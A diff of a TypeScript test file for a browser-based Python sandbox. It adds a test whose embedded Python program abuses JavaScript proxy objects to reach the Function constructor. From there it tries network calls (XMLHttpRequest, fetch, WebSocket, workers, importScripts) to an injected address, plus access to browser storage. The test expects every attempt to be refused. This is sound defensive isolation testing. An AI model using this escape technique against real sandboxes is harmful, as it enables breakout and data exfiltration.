@@ -1,3 +1,5 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { contractNames } from '../src/engines/contract/index.ts';
@@ -74,6 +76,82 @@ describe('engine contract: python without JSPI', () => {
   });
 });
 
+/** Output, exit code and reports of a program in a sandbox of its own. */
+function run(program: string): Promise<{ ended: number; printed: string; reports: string[] }> {
+  return page.evaluate(async (text) => {
+    const sandbox = await (await window.decay?.createEngine('python'))?.boot();
+    if (sandbox === undefined) throw new Error('no engine');
+    const reports: string[] = [];
+    sandbox.on('unsupported', ({ detail }) => reports.push(detail));
+    await sandbox.mount({ 'program.py': text });
+    const process = await sandbox.spawn('python', ['program.py']);
+    let printed = '';
+    const decoder = new TextDecoder();
+    const reader = process.output.getReader();
+    for (let next = await reader.read(); !next.done; next = await reader.read())
+      if (next.value.stream === 'stdout') printed += decoder.decode(next.value.bytes);
+    const ended = await process.exit;
+    await sandbox.dispose();
+    return { ended, printed, reports };
+  }, program);
+}
+
+/** JavaScript of the interpreter's own worker, which a companion started, by any object of it that lies about. */
+const hostile = (address: string) => `
+import gc, json, time
+
+def evaluators():
+    for thing in gc.get_objects():
+        for value in list(thing.values()) if type(thing) is dict else [thing]:
+            if any(kind.__name__ == 'JsProxy' for kind in type(value).__mro__) and hasattr(value, 'constructor'):
+                maker = value.constructor
+                yield maker if maker.name == 'Function' else maker.constructor
+
+tries = {
+    'XMLHttpRequest': "const x = new XMLHttpRequest(); x.open('GET', '${address}', false); x.send(); return x.status",
+    'importScripts': "importScripts('${address}'); return 'loaded'",
+    'Worker': "return String(new Worker('${address}'))",
+    'indexedDB': "return String(indexedDB.open('secret'))",
+    'caches': "return String(caches)",
+    'storage': "return String(localStorage)",
+}
+later = "fetch('${address}').catch(() => 0); new WebSocket('${address}'.replace('http', 'ws'));"
+later += '''new Worker(URL.createObjectURL(new Blob(["fetch('${address}')"]))); return 0'''
+report = {}
+for evaluate in evaluators():
+    for name, code in tries.items():
+        try:
+            report[name] = 'done: %s' % evaluate(code)()
+        except Exception as error:
+            report[name] = 'refused'
+    evaluate(later)()
+    time.sleep(2)
+    break
+print(json.dumps(report))
+`;
+
+it('a hostile program finds no network and no storage in its interpreter', async () => {
+  const reached: string[] = [];
+  const outside = createServer((request, response) => {
+    reached.push(String(request.url));
+    response.writeHead(200, {
+      'Access-Control-Allow-Origin': '*',
+      'Cross-Origin-Resource-Policy': 'cross-origin',
+    });
+    response.end('1');
+  }).on('upgrade', (request, socket) => {
+    reached.push(`upgrade ${request.url}`);
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
+  const { printed } = await run(hostile(`http://127.0.0.1:${(outside.address() as AddressInfo).port}/`));
+  outside.close();
+  const report = JSON.parse(printed) as Record<string, string>;
+  expect(Object.keys(report)).toHaveLength(6);
+  expect(new Set(Object.values(report))).toEqual(new Set(['refused']));
+  expect(reached).toEqual([]);
+});
+
 describe('threads without stacks of their own', () => {
   it.each([
     [
@@ -85,22 +163,7 @@ describe('threads without stacks of their own', () => {
     ],
     ['are said to be impossible where they take turns', turns, 134, 'ping 0\npong 0\n', true],
   ])('%s', async (_name, program, code, output, said) => {
-    const result = await page.evaluate(async (text) => {
-      const sandbox = await (await window.decay?.createEngine('python'))?.boot();
-      if (sandbox === undefined) throw new Error('no engine');
-      const reports: string[] = [];
-      sandbox.on('unsupported', ({ detail }) => reports.push(detail));
-      await sandbox.mount({ 'threads.py': text });
-      const process = await sandbox.spawn('python', ['threads.py']);
-      let printed = '';
-      const decoder = new TextDecoder();
-      const reader = process.output.getReader();
-      for (let next = await reader.read(); !next.done; next = await reader.read())
-        if (next.value.stream === 'stdout') printed += decoder.decode(next.value.bytes);
-      const ended = await process.exit;
-      await sandbox.dispose();
-      return { ended, printed, reports };
-    }, program);
+    const result = await run(program);
     expect(result.printed).toBe(output);
     expect(result.ended).toBe(code);
     expect(result.reports.some((detail) => detail.includes('JSPI'))).toBe(said);
